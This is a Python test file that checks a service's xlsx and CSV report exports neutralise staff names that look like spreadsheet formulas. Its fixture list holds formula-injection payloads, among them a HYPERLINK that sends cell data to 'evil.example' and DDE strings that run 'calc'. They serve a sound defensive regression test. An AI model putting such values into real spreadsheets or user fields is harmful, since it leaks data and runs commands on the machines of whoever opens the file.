"""Issue 15, item 7: a staff name `=HYPERLINK(...)` was stored as a formula cell in the xlsx report
and written raw to the CSV. Every text cell starting with = + - @ (or a tab or CR) is text now."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def served_by_nasty_names(api):
    for i, name in enumerate(NAMES):
        who = api.add_staff(f"evil{i}", [1], name=name)
        assert api.act(1, "sign-in", who).status == 200
        assert api.issue("social").status == 201
        assert api.act(1, "call-next", who).body["ticket"]
        assert api.act(1, "finish", who, {"outcome": "immediate"}).status == 200
        assert api.act(1, "sign-out", who).status == 200
    api.add_staff("boss", [], role="manager")
    return api


def test_names_that_look_like_formulas_are_text_in_the_xlsx(served_by_nasty_names, tmp_path):
    api = served_by_nasty_names
    r = api.get(api.hp("/reports?format=xlsx"), "boss")
    assert r.status == 200
    (tmp_path / "r.xlsx").write_bytes(r.raw)
    wb = load_workbook(tmp_path / "r.xlsx")
    expected = {n.replace("\r", "\n") for n in NAMES}  # XML reads a CR back as a line feed
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in expected:
                    seen.add(cell.value)
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    assert seen == expected
    # numbers stay numbers (a negative figure is not text)
    staff = wb["按人员"]
    assert any(isinstance(c.value, (int, float)) for row in staff.iter_rows(min_row=2) for c in row)


def test_names_that_look_like_formulas_are_quoted_in_the_csv(served_by_nasty_names):
    api = served_by_nasty_names
    r = api.get(api.hp("/reports?format=csv&table=staff"), "boss")
    assert r.status == 200
    rows = list(csv.reader(io.StringIO(r.raw.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    for name in NAMES:
        assert "'" + name in cells, name
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
